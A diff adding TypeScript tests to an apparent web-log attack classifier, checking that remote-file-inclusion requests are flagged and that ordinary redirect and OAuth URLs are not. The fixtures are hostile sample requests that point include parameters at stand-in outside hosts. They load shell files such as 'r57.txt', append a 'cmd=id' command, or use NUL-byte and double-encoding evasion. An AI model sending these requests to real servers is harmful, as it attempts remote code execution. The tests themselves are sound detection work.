@@ -167,6 +167,71 @@ describe('rules for real traffic: exploits and probes', () => {
   });
 });
 
+describe('remote file inclusion on any parameter', () => {
+  const fileInclusion = (request: string) =>
+    classifier
+      .classify(record({ request, status: 200 }))
+      .labels.filter((l) => l.category === 'file-inclusion')
+      .map((l) => l.rule.id);
+  const attempts: [name: string, request: string][] = [
+    ['a page URL cut off by a trailing ?', 'GET /index.php?n=http://203.0.113.80/menu/pizza.htm? HTTP/1.1'],
+    ['the same, percent-encoded', 'GET /index.php?n=http%3A%2F%2F203.0.113.80%2Fmenu%2Fpizza.htm%3F HTTP/1.1'],
+    ['the same, double-encoded', 'GET /index.php?n=http%253A%252F%252F203.0.113.80%252Fmenu%252Fpizza.htm%253F HTTP/1.1'],
+    ['several trailing ? after an image name', 'GET /gallery.php?id=7&skin=http://bad.example.net/x/logo.gif??? HTTP/1.1'],
+    ['a NUL byte cutting off the extension', 'GET /main.php?lang=http://bad.example.net/tools/index%00 HTTP/1.1'],
+    ['a text-file payload with a command after it', 'GET /modules.php?name=http://bad.example.net/id.txt?&cmd=id HTTP/1.1'],
+    ['a text-file payload over FTP, no trailing ?', 'GET /x.php?q=ftp://198.51.100.9/r57.txt HTTP/1.1'],
+    ['an HTTPS text-file payload in a second parameter', 'GET /?a=1&b=HTTPS://bad.example.net/shell.TXT HTTP/1.1'],
+  ];
+  for (const [name, request] of attempts) {
+    it(`labels ${name} as file inclusion`, () => {
+      assert.deepEqual(fileInclusion(request), ['remote-file-inclusion-any-parameter'], request);
+    });
+  }
+
+  it('keeps the known include parameters, whatever the URL looks like', () => {
+    assert.deepEqual(fileInclusion('GET /index.php?page=https://bad.example.net/a HTTP/1.1'), ['remote-file-inclusion']);
+  });
+
+  const redirects: [name: string, request: string][] = [
+    ['a login redirect', 'GET /login?next=https://www.example.com/account/settings HTTP/1.1'],
+    ['a redirect to a page', 'GET /out.php?url=https://partner.example.org/offers/summer.html HTTP/1.1'],
+    ['a link with its own query', 'GET /go.php?url=http://www.example.com/view.php?id=12&ref=mail HTTP/1.1'],
+    [
+      'an OAuth authorisation request',
+      'GET /oauth/authorize?response_type=code&client_id=app&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%3Fstate%3Dxyz&scope=openid HTTP/1.1',
+    ],
+    ['a return URL to the site root', 'GET /logout?return=https://www.example.com/ HTTP/1.1'],
+    ['a return URL that ends in a bare ? with no file name', 'GET /cart?return=https://shop.example.com/cart? HTTP/1.1'],
+    ['WordPress redirect_to', 'GET /wp-login.php?redirect_to=https%3A%2F%2Fblog.example.com%2Fwp-admin%2F&reauth=1 HTTP/1.1'],
+    ['a share link to a PDF', 'GET /share?u=https://www.example.com/files/report-2024.pdf HTTP/1.1'],
+    [
+      'an analytics beacon for a page left with an empty form query',
+      'GET /matomo.php?idsite=1&rec=1&url=https%3A%2F%2Fwww.example.com%2Fsearch.php%3F HTTP/1.1',
+    ],
+  ];
+  for (const [name, request] of redirects) {
+    it(`leaves alone ${name}`, () => {
+      const c = classifier.classify(record({ request, status: 302 }));
+      assert.deepEqual(
+        c.labels.filter((l) => l.rule.class !== 'benign').map((l) => l.rule.id),
+        [],
+        request,
+      );
+    });
+  }
+
+  it('a source that tries one on a PHP page is labelled and suspicious, not just an old browser', () => {
+    const ua = 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; .NET CLR 1.1.4322)';
+    const { report } = scanLines({
+      a: [`203.0.113.81 - - [${timeAt(0)}] "GET /index.php?n=http://203.0.113.80/menu/pizza.htm? HTTP/1.1" 200 114 "-" "${ua}"`],
+    });
+    const src = report.sources.find((s) => s.source === '203.0.113.81');
+    assert.ok(src?.labels['file-inclusion'], JSON.stringify(src?.labels));
+    assert.equal(src.severity, 'high');
+  });
+});
+
 describe('scanner and attack-tool identities', () => {
   it('every tool, marker and exploited product names a source', () => {
     for (const t of SCANNER_TOOLS) assert.ok(t.references.length > 0 && t.references.every((r) => r.startsWith('http')), t.name);
